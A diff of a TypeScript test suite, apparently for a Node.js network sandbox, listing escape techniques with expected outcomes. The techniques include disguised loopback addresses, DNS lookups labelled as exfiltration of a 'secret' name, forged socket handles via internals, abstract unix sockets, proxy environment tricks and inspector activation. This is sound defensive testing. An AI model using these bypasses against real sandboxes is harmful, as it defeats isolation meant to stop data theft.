@@ -6,10 +6,11 @@ const ssrf = 'SSRF: addresses in disguise';
 const connectTo = (host: string) => `once(net.connect(port, '${host}'), 'connect')`;
 /** Nothing is seen of it but that nobody was reached. */
 const nothing = /^['"](?:refused|nothing|failed|done)/;
-const done = /^['"]done: /;
+/** Somebody was asked for a name, or for the name of an address. */
+const asked = /(?:ENOTFOUND|ENODATA|ESERVFAIL|ECONNREFUSED|ETIMEOUT|EAI_AGAIN)|done: /;
 
 const addresses: readonly Technique[] = [
-  ['by its address', connectTo('127.0.0.1'), undefined, done],
+  ['by its address', connectTo('127.0.0.1')],
   ['another of 127/8', connectTo('127.0.0.2')],
   ['a decimal number', connectTo('2130706433')],
   ['a hexadecimal number', connectTo('0x7f000001')],
@@ -18,24 +19,19 @@ const addresses: readonly Technique[] = [
   ['0.0.0.0', connectTo('0.0.0.0')],
   ['0', connectTo('0')],
   ['an empty name', `once(net.connect({ port, host: '' }), 'connect')`],
-  ['mapped into IPv6', connectTo('::ffff:127.0.0.1'), undefined, done],
+  ['mapped into IPv6', connectTo('::ffff:127.0.0.1')],
   ['mapped into IPv6, in hex', connectTo('::ffff:7f00:1')],
   ['mapped into IPv6, written out', connectTo('0:0:0:0:0:ffff:7f00:0001')],
   ['IPv6', connectTo('::1')],
   ['every address of IPv6', connectTo('::')],
   ['IPv6 with a zone', connectTo('::1%lo')],
   ['the permitted name, another port', connectTo('localhost')],
-  ['the permitted name in capitals and with a dot', connectTo('LOCALHOST.')],
-  ['a name below localhost', connectTo('x.localhost')],
-  ['a name of the system for it', connectTo('ip6-localhost')],
-  ['the name of the machine', `once(net.connect(port, os.hostname()), 'connect')`],
+  ['the permitted name in capitals and with a dot', connectTo('LOCALHOST.'), undefined, asked],
+  ['a name below localhost', connectTo('x.localhost'), undefined, asked],
+  ['a name of the system for it', connectTo('ip6-localhost'), undefined, asked],
+  ['the name of the machine', `once(net.connect(port, os.hostname()), 'connect')`, undefined, asked],
   ['digits of another script', connectTo('①②⑦.0.0.1')],
   ['a port as a string', `once(net.connect({ port: String(port), host: '127.0.0.1' }), 'connect')`],
-  [
-    'a port as an object that changes',
-    `(() => { let n = 0; const p = { valueOf: () => (n++ ? port : open), toString: () => String(open) }; return once(net.connect({ port: p, host: '127.0.0.1' }), 'connect') })()`,
-    /^['"](?:refused|failed)/,
-  ],
 ].map(
   ([name, code, meets, unprotected]): Technique => [
     `address: ${name}`,
@@ -64,23 +60,30 @@ const techniques: readonly Technique[] = [
     own,
     `patched(dns, 'lookup', (n, o, c) => c(null, [{ address: '127.0.0.1', family: 4 }]), () => once(net.connect(port, 'localhost'), 'connect'))`,
   ],
-  ['lookup: a name nobody permitted', own, `cb((done) => dns.lookup('example.invalid', done))`],
-  ['lookup: promises', own, `dns.promises.lookup('example.invalid')`],
+  [
+    'lookup: a name nobody permitted',
+    own,
+    `cb((done) => dns.lookup('example.invalid', done))`,
+    undefined,
+    undefined,
+    asked,
+  ],
+  ['lookup: promises', own, `dns.promises.lookup('example.invalid')`, undefined, undefined, asked],
   [
     'lookup: data in a name',
     'DNS exfiltration',
     `cb((done) => dns.resolve4('secret.example.invalid', done))`,
+    undefined,
+    undefined,
+    asked,
   ],
-  [
-    'lookup: a resolver with a server of its own',
-    'DNS exfiltration',
-    `(() => { const r = new dns.Resolver({ timeout: 200, tries: 1 }); r.setServers(['127.0.0.1:' + port]); return cb((done) => r.resolveTxt('secret.example.invalid', done)) })()`,
-  ],
-  [
-    'lookup: dns.resolveAny, reverse, lookupService',
-    own,
-    `Promise.any([cb((d) => dns.resolveAny('x.invalid', d)), cb((d) => dns.reverse('127.0.0.9', d)), cb((d) => dns.lookupService('127.0.0.9', 22, d))])`,
-  ],
+  ...[
+    ['resolveAny', `cb((done) => dns.resolveAny('x.invalid', done))`],
+    ['reverse', `cb((done) => dns.reverse('127.0.0.9', done))`],
+    ['lookupService', `cb((done) => dns.lookupService('127.0.0.9', 22, done))`],
+  ].map(
+    ([name, code]): Technique => [`lookup: dns.${name}`, own, code as string, undefined, undefined, asked],
+  ),
   [
     'net: autoSelectFamily with many addresses',
     own,
@@ -100,18 +103,12 @@ const techniques: readonly Technique[] = [
   [
     'net: the handle of a permitted socket',
     own,
-    `(async () => { const s = net.connect(open, '127.0.0.1'); await once(s, 'connect'); const { TCPConnectWrap } = {}; const h = new s._handle.constructor(0); const r = h.connect({}, '127.0.0.1', port); s.destroy(); if (r < 0) absent(); return r })()`,
+    `(async () => { let Request; const hook = async_hooks.createHook({ init(id, type, trigger, resource) { if (type === 'TCPCONNECTWRAP') Request ??= resource.constructor } }).enable(); const s = net.connect(open, '127.0.0.1'); await once(s, 'connect'); hook.disable(); const h = new s._handle.constructor(0); const r = h.connect(new Request(), '127.0.0.1', port); s.destroy(); if (r < 0) held(); return r })()`,
   ],
   [
     'net: a handle whose owner is somebody else',
     own,
     `(() => { const s = net.connect(port, '127.0.0.1'); const seen = []; const symbol = Object.getOwnPropertySymbols(s._handle).find((x) => x.description === 'owner_symbol'); s._handle[symbol] = { destroy: (e) => seen.push(e), listenerCount: () => 1 }; return new Promise((resolve, reject) => setTimeout(() => seen.length ? reject(seen[0]) : resolve('connected'), 100)) })()`,
-  ],
-  [
-    'net: the file descriptor of the channel',
-    'guard.md: forgeable',
-    `(() => { const s = new net.Socket({ fd: 3, readable: false, writable: true }); const w = s.writable; s._handle = null; return w })()`,
-    /^'(?:done|failed)/,
   ],
   ['net: a unix socket', 'CVE-2026-21636 (Node)', `once(net.connect(socket), 'connect')`],
   [
@@ -119,7 +116,7 @@ const techniques: readonly Technique[] = [
     'CVE-2026-21636 (Node)',
     `once(net.connect({ path: '/proc/self/root' + socket }), 'connect')`,
   ],
-  ['net: an abstract unix socket', own, `once(net.connect('\\0mcp-node-attack'), 'connect')`],
+  ['net: an abstract unix socket', own, `once(net.connect(abstract), 'connect')`],
   [
     'net: BlockList that says yes',
     own,
@@ -143,7 +140,7 @@ const techniques: readonly Technique[] = [
   [
     'net: listens',
     own,
-    `new Promise((resolve) => { const s = net.createServer().listen(0, () => cb((done) => net.connect(s.address().port || 1, '127.0.0.1').on('error', done)).then(resolve, (e) => resolve(e.code))) })`,
+    `new Promise((resolve) => { const s = net.createServer().listen(0, () => cb((done) => net.connect(s.address().port || 1, '127.0.0.1').on('error', done).on('connect', done)).then(() => resolve('listens'), (e) => resolve(e.code))) })`,
     /PERMISSION_DENIED/,
   ],
   [
@@ -155,7 +152,7 @@ const techniques: readonly Technique[] = [
   [
     'net: listens by a handle',
     own,
-    `(() => { const s = net.connect(port, '127.0.0.1').on('error', () => {}); const h = new s._handle.constructor(1); h.bind('127.0.0.1', 0); return h.listen(1) < 0 ? absent() : 'listens' })()`,
+    `(() => { const s = net.connect(port, '127.0.0.1').on('error', () => {}); const h = new s._handle.constructor(1); h.bind('127.0.0.1', 0); return h.listen(1) < 0 ? held() : 'listens' })()`,
   ],
   [
     'net: a server on a handle',
@@ -180,12 +177,13 @@ const techniques: readonly Technique[] = [
     own,
     `once(http.get({ host: '127.0.0.1', port, agent: new http.Agent({ keepAlive: true }) }), 'response')`,
   ],
-  ['http: an agent for a unix socket', own, `once(http.get({ socketPath: socket, path: '/' }), 'response')`],
   [
-    'http: a proxy in the environment',
+    'http: an agent for a unix socket',
     own,
-    `(async () => { process.env.HTTP_PROXY = process.env.http_proxy = 'http://127.0.0.1:' + port; process.env.NODE_USE_ENV_PROXY = '1'; try { return await fetch('http://localhost:' + open) } finally { delete process.env.HTTP_PROXY; delete process.env.http_proxy; delete process.env.NODE_USE_ENV_PROXY } })()`,
-    nothing,
+    `once(http.get({ socketPath: socket, path: '/' }), 'response')`,
+    undefined,
+    undefined,
+    /EPIPE|ECONNRESET|hang up/,
   ],
   [
     'http: an agent with a proxy',
@@ -206,29 +204,16 @@ const techniques: readonly Technique[] = [
     `once(tls.connect({ socket: net.connect(port, '127.0.0.1') }), 'secureConnect')`,
   ],
   ['fetch', own, `fetch('http://127.0.0.1:' + port)`],
-  [
-    'fetch: with credentials before the @',
-    ssrf,
-    `fetch('http://localhost:' + open + '@127.0.0.1:' + port)`,
-    /^['"](?:refused|failed)/,
-  ],
   ['fetch: a redirect of a permitted one', ssrf, `fetch('http://127.0.0.1:' + open + '/to/' + port)`],
   [
     'fetch: a dispatcher',
     own,
     `fetch('http://localhost:' + open, { dispatcher: new (globalThis[Symbol.for('undici.globalDispatcher.1')].constructor)({ connect: { lookup: (n, o, c) => c(null, [{ address: '127.0.0.3', family: 4 }]) } }) })`,
   ],
-  ['fetch: a file', own, `fetch('file://' + dir + '/.env.canary').then((r) => r.text())`, /^['"]failed/],
   [
     'WebSocket',
     own,
     `new Promise((resolve, reject) => { const s = new WebSocket('ws://127.0.0.1:' + port); s.onopen = resolve; s.onerror = (e) => reject(e.error ?? e) })`,
-    nothing,
-  ],
-  [
-    'EventSource',
-    own,
-    `typeof EventSource === 'function' ? new Promise((resolve, reject) => { const s = new EventSource('http://127.0.0.1:' + port); s.onopen = resolve; s.onerror = (e) => { s.close(); reject(e) } }) : absent()`,
     nothing,
   ],
   [
@@ -248,7 +233,14 @@ const techniques: readonly Technique[] = [
     /not bound|failed|refused/,
   ],
   ['inspector: open', own, `inspector.open(0, '127.0.0.1')`],
-  ['inspector: by a signal', own, `process.kill(process.pid, 'SIGUSR1')`],
+  [
+    'inspector: by a signal',
+    own,
+    `process.kill(process.pid, 'SIGUSR1')`,
+    undefined,
+    undefined,
+    /done: true|ended/,
+  ],
   ['inspector: _debugProcess', own, `process._debugProcess(process.pid)`],
   ['a package: ws', own, `once(new (require('ws'))('ws://127.0.0.1:' + port), 'open')`],
   [
@@ -263,15 +255,11 @@ const techniques: readonly Technique[] = [
     `cb((done) => require('mysql2').createConnection({ host: '127.0.0.1', port }).connect(done))`,
   ],
   [
-    'a shared library of OpenSSL',
-    own,
-    `tls.createSecureContext({ clientCertEngine: mark })`,
-    /^['"](?:refused|failed)/,
-  ],
-  [
     'the permitted one is reached',
     own,
     `once(net.connect(open, '127.0.0.1'), 'connect').then(() => 'reached')`,
+    /done: reached/,
+    undefined,
     /done: reached/,
   ],
   [
@@ -284,6 +272,6 @@ const techniques: readonly Technique[] = [
 ];
 
 /** What the test file makes. */
-export const places = { open: 0, socket: '' };
+export const places = { open: 0, socket: '', abstract: '' };
 
 export const network = insideAttacks(techniques, places);
